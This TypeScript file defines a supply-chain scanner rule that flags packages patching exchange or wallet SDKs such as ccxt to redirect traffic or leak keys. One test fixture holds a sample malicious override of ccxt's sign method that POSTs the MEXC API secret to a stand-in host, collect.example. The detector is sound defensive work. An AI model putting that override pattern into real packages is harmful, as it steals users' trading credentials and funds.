import type { Action, Context, Finding, Flow, Inspection, Rule } from '../lib/types.ts'
import { brandInHost } from './brands/brand-in-host.ts'
import type { SdkOverride } from './brands/sdk-override.ts'
import { sdkOverrides } from './brands/sdk-override.ts'
import { whereToVerify } from './brands/where-to-verify.ts'
import type { Contact } from './hosts/contacted.ts'
import { findingAt, findingOfFlow, opening, severityOf, sourceInWords } from './finding.ts'
import { contactsOf, isKeyMaterial } from './hosts/contacted.ts'
import { hostClass, isLocal } from './hosts/host-class.ts'
import type { Host } from './hosts/host.ts'
import { isNamesake } from './hosts/namesake.ts'
import { isOwnHost, ownersOfHost } from './hosts/own-host.ts'
import type { Lists } from './lists.ts'

/** A subclass or patch of a known SDK at the place where keys and orders pass. */
export const knownSdkOverride: Rule = {
  meta: {
    id: 'known-sdk-override',
    title: 'Changes how a known SDK signs, addresses or orders',
    severity: 'high',
    description:
      'The package subclasses or patches the SDK of an exchange, wallet or payment service where secrets and orders pass: signing, headers, base addresses, order methods. ' +
      'Honest bots extend an SDK too, so alone it is a note. It is a question where the SDK is pointed at a host that is not the service’s, or where the secret itself instead of a signature goes into a request; ' +
      'and a block where both meet, where a secret is sent to such a host, or where that host borrows a brand name.',
    references: [
      'ccxt-mexc-futures, April 2025: describe, sign and prepare_request_headers overridden',
      'ethers-provider2, March 2025: https://www.reversinglabs.com/blog/malicious-npm-patch-delivers-reverse-shell',
    ],
    blindSpots: [
      'SDKs that brands.json does not list.',
      'A copy of the SDK inside the package: then nothing is patched.',
      'Members and addresses chosen at run time.',
    ],
    examples: {
      flags: [
        {
          title: 'a subclass that also sends the keys elsewhere',
          files: {
            'package.json':
              '{"name":"futures-plus","version":"1.0.0","main":"index.js","dependencies":{"ccxt":"^4.0.0"}}',
            'index.js':
              "const ccxt = require('ccxt')\nccxt.mexc.prototype.sign = function (path) {\n  fetch('https://collect.example/k', { method: 'POST', body: process.env.MEXC_API_SECRET })\n  return { url: path }\n}\n",
          },
          context: { name: 'futures-plus', version: '1.0.0', source: 'registry' },
        },
      ],
      passes: [
        {
          title: 'a bot that subclasses an exchange and adds a method',
          files: {
            'package.json':
              '{"name":"grid-bot","version":"1.0.0","main":"index.js","dependencies":{"ccxt":"^4.0.0"}}',
            'index.js':
              "const ccxt = require('ccxt')\nclass Grid extends ccxt.kraken { levels(n) { return Array.from({ length: n }, (_, i) => i) } }\nmodule.exports = Grid\n",
          },
          context: { name: 'grid-bot', version: '1.0.0', source: 'registry' },
        },
      ],
    },
  },
  check(inspection, context) {
    const overrides = sdkOverrides(inspection, context.name, context.lists)
    const first = overrides[0]
    if (first === undefined) return []
    const contacts = contactsOf(inspection).filter(contact => isForeign(contact, overrides, context))
    const redirects = overrides
      .flatMap(override => override.redirects)
      .filter(redirect => isForeign(redirect, overrides, context))
    const facts: Facts = {
      worst: contacts.find(contact => contact.secret !== undefined) ?? contacts[0],
      redirect: redirects.find(redirect => isSuspicious(redirect, context.lists)) ?? redirects[0],
      secret: overrides.flatMap(override => override.secrets)[0],
    }
    return [report(overrides, first, facts, judge(facts, overrides, inspection, context))]
  },
}

type Facts = {
  /** A host that is not the service's, with the worst that is sent there. */
  readonly worst: Contact | undefined
  /** Where the SDK itself is pointed: it then sends keys and orders there. */
  readonly redirect: SdkOverride['redirects'][number] | undefined
  /** A secret itself, no signature, in what the SDK sends. */
  readonly secret: SdkOverride['secrets'][number] | undefined
}

type Place = { readonly host: Host }

/** A homepage is the author's claim: it does not make a host the service's, it only turns a block into a question. */
function isForeign(place: Place, overrides: readonly SdkOverride[], context: Context): boolean {
  const { lists } = context
  if (isLocal(place.host)) return false
  if (isSuspicious(place, lists)) return true
  const brands = overrides.flatMap(override => override.brands)
  // A bot tells its owner by way of a chat service: that host belongs to another listed brand.
  return !isOwnHost(place.host, undefined, brands, lists) && ownersOfHost(place.host, lists).length === 0
}

function isSuspicious(place: Place, lists: Lists): boolean {
  // The brand's bare word under another suffix may be a regional site that the list lacks.
  const borrowed = brandInHost(place.host, lists)
  return (borrowed?.weight ?? 0) >= 2 || (hostClass(place.host, lists.hosts)?.weight ?? 0) >= 2
}

/** A replaced function that makes an account out of a key: whatever it calls its first argument, that is the key. */
function takesKey({ member }: SdkOverride): boolean {
  return /private_?key|secret_?key|from_?(?:seed|mnemonic|secret|phrase)/i.test(member)
}

/** What the caller hands to the SDK, or a variable named as such services name their keys; not the bot's own password. */
function isOfService(flow: Flow, overrides: readonly SdkOverride[]): boolean {
  const { kind, name } = flow.source
  // A library of a chain has no accounts: the key of a node's provider is that provider's.
  if (overrides.every(({ brands }) => brands.every(brand => brand.kind === 'web3')))
    return isKeyMaterial(flow) || (kind === 'caller-secret' && overrides.some(takesKey))
  return kind === 'caller-secret' || isKeyMaterial(flow) || /api_?(key|secret)|passphrase/i.test(name)
}

const strength: Readonly<Record<Action, number>> = { note: 0, ask: 1, block: 2 }

function judge(
  facts: Facts,
  overrides: readonly SdkOverride[],
  inspection: Inspection,
  context: Context,
): Action {
  const judged = [ofContact(facts, overrides, inspection, context), ofRedirect(facts, inspection, context)]
  return judged.reduce((a, b) => (strength[a] >= strength[b] ? a : b))
}

/** What a homepage or the package's own name claims. */
function isOwn(host: Host, { manifest }: Inspection, { name, lists }: Context): boolean {
  return isOwnHost(host, manifest, [], lists) || isNamesake(host, name, lists)
}

function ofContact(
  { worst, secret }: Facts,
  overrides: readonly SdkOverride[],
  inspection: Inspection,
  context: Context,
): Action {
  if (worst === undefined) return secret === undefined ? 'note' : 'ask'
  const suspicious = isSuspicious(worst, context.lists)
  if (worst.secret === undefined) {
    if (secret !== undefined) return suspicious ? 'block' : 'ask'
    return suspicious ? 'ask' : 'note'
  }
  if (suspicious) return 'block'
  const ofService = isOfService(worst.secret, overrides)
  if (isOwn(worst.host, inspection, context)) return ofService ? 'ask' : 'note'
  return ofService ? 'block' : 'ask'
}

/** A company may send its own traffic through a gateway of its own; nobody honest adds the secret itself. */
function ofRedirect({ redirect, secret }: Facts, inspection: Inspection, context: Context): Action {
  if (redirect === undefined) return 'note'
  if (isSuspicious(redirect, context.lists)) return 'block'
  if (isOwn(redirect.host, inspection, context)) return 'ask'
  return secret === undefined ? 'ask' : 'block'
}

function report(
  overrides: readonly SdkOverride[],
  first: SdkOverride,
  { worst, redirect, secret }: Facts,
  action: Action,
): Omit<Finding, 'rule'> {
  const members = [...new Set(overrides.map(override => override.member))].slice(0, 5).join(', ')
  const sent = worst?.secret
  const parts = [
    redirect === undefined ? '' : `points it at ${redirect.host.shown}, which is not a host of that service`,
    worst === undefined || (worst.host.shown === redirect?.host.shown && sent === undefined)
      ? ''
      : `contacts ${worst.host.shown}${worst.host.shown === redirect?.host.shown ? '' : ', which is not a host of that service'}${sent === undefined ? '' : `, sending it ${sourceInWords(sent.source)}`}`,
    secret === undefined
      ? ''
      : `puts the caller's ${secret.name} itself, not a signature made with it, into what is sent`,
  ].filter(part => part !== '')
  const judged = {
    severity: severityOf(action),
    action,
    message:
      `${opening({ phase: first.phase, byCall: true })} overrides ${members} of ${first.sdk}, through which keys and orders pass` +
      `${parts.map(part => `; it ${part}`).join('')}. ${whereToVerify(first.brands)}`,
  }
  if (sent !== undefined) return findingOfFlow(sent, judged)
  const steps = [
    { label: `overrides ${members} of ${first.sdk}`, at: first.at },
    ...(redirect === undefined ? [] : [{ label: `points it at ${redirect.host.shown}`, at: redirect.at }]),
    ...overrides
      .flatMap(override => override.secrets)
      .filter((one, i, all) => all.findIndex(other => other.at.line === one.at.line) === i)
      .slice(0, 4)
      .map(one => ({ label: `puts the caller's ${one.name} itself into what is sent`, at: one.at })),
    ...(worst === undefined ? [] : [{ label: `contacts ${worst.host.shown}`, at: worst.at }]),
  ]
  const finding = findingAt(secret?.at ?? redirect?.at ?? first.at, first.phase, judged)
  return steps.length === 1
    ? finding
    : { ...finding, flow: steps.map(({ label, at }) => ({ label, path: at.path, line: at.line })) }
}
